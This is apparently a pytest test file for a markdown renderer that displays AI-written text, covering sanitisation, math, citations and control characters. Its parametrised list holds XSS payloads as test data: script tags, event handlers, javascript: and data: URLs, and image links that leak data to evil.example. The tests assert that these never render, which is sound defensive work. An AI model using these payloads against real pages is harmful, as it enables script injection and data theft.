from __future__ import annotations

import pytest
from statebook.ui.markdown import cited_marks, markdown_html, replace_citations
from ui_samples import soup_of


def html(text: str) -> str:
    return markdown_html(text, lambda marks: f"<sup>{'+'.join(marks)}</sup>")


ALLOWED = {
    *("a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "hr", "li", "ol", "p", "pre", "s", "span", "strong"),
    *("sup", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "a <b onmouseover=alert(1)>b</b>",
        "<!-- --><style>*{display:none}</style>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "<javascript:alert(1)>",
        "[x][1]\n\n[1]: javascript:alert(1)",
        '[x](https://a.example/"onmouseover="alert(1))',
        '[x](https://a.example "t\\" onmouseover=alert(1)")',
        "![x](https://evil.example/leak?q=secret)",
        '![x](data:image/svg+xml,<svg/onload=alert(1)> "t")',
        "![x][i]\n\n[i]: https://evil.example/i.png",
        "```html\n<script>alert(1)</script>\n```",
        '```"><script>alert(1)</script>\ncode\n```',
        "$<img src=x onerror=alert(1)>$",
        "$$\n</span><script>alert(1)</script>\n$$",
        "\\(<script>alert(1)</script>\\)",
        "| <script> | b |\n|---|---|\n| <img src=x> | `</code><script>` |",
        "[S1.1](javascript:alert(1))",
        "[S1.1]: https://evil.example\n\n[S1.1]",
    ],
)
def test_nothing_a_model_writes_becomes_markup(hostile):
    soup = soup_of(html(hostile))
    for tag in soup.find_all(True):
        assert tag.name in ALLOWED, tag
        for name, value in tag.attrs.items():
            assert name in {"href", "title", "target", "rel", "class", "style", "start"}, (name, value)
            if name == "href":
                assert value.startswith(("https://", "http://", "mailto:", "#"))
            if name == "style":
                assert value.startswith("text-align:")


def test_remote_images_become_links():
    soup = soup_of(html("![a chart](https://example.org/chart.png)"))
    assert soup.img is None
    assert soup.a["href"] == "https://example.org/chart.png"
    assert "a chart" in soup.a.text


def test_tables_strikethrough_and_code_are_there():
    soup = soup_of(html("| a | b |\n|:--|--:|\n| 1 | 2 |\n\n~~gone~~\n\n```python\nx = 1 < 2\n```"))
    assert [cell.text for cell in soup.find_all("td")] == ["1", "2"]
    assert soup.s.text == "gone"
    assert soup.pre.text == "x = 1 < 2\n"


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("with $x_1 < y_2$ here", "$x_1 < y_2$"),
        ("$$\n\\sum_i x_i\n$$", "$$\n\\sum_i x_i\n$$"),
        ("as $$E = mc^2$$ says", "$$E = mc^2$$"),
        (r"as \(a_1 * b * c\) says", r"\(a_1 * b * c\)"),
        (r"as \[a_1 * b * c\] says", r"\[a_1 * b * c\]"),
    ],
)
def test_mathematics_reaches_the_typesetter_in_one_piece(text, kept):
    spans = soup_of(html(text)).find_all(["span", "p"])
    assert any(span.string == kept for span in spans)


@pytest.mark.parametrize("text", ["It costs $5 and $10.", "US$6 or $7-$8", r"C:\(x\new)\begin{x}", "a $ b $ c"])
def test_money_and_paths_are_no_mathematics(text):
    soup = soup_of(html(text))
    for piece in soup.find_all(string=True):
        assert piece.strip() in {"$", "\\"} or not {"$", "\\"} & set(piece), f"{piece!r} could be typeset"


def test_citations_are_grouped_and_stand_at_their_word():
    assert html("True [S3.7] [S4.1], and so [S3.7].") == "<p>True<sup>S3.7+S4.1</sup>, and so<sup>S3.7</sup>.</p>\n"


def test_code_is_not_read_for_citations():
    text = "`[S1.1]` and ``a ` [S1.2]``\n\n```\n[S1.3]\n```\n\n- item\n\n  ~~~\n  [S1.4]\n  ~~~\n\nbut [S1.5]"
    assert cited_marks(text) == ["S1.5"]
    assert "<code>[S1.1]</code>" in html(text)
    assert replace_citations(text, lambda _marks: "[1]") == text.replace("[S1.5]", "[1]")


def test_marks_are_counted_once_in_order():
    assert cited_marks("[S2.1] then [S1.1][S2.1] [S10.3]; not [S1] or [s1.1]") == ["S2.1", "S1.1", "S10.3"]


def test_a_lone_backtick_hides_no_later_citation():
    text = "a ` b [S1.1]\n\nand ` c"
    assert cited_marks(text) == ["S1.1"]
    assert replace_citations(text, lambda _marks: "[1]") == "a ` b [1]\n\nand ` c"


def test_controls_and_lone_surrogates_are_shown_not_obeyed():
    out = html("a\x07b\x1b[31mred\x1b[0m \ud800 \u202egnp.exe")
    assert "\\x07" in out.replace("<span>", "").replace("</span>", "")
    assert "\x1b" not in out
    assert "\u202e" not in out
    out.encode("utf-8")
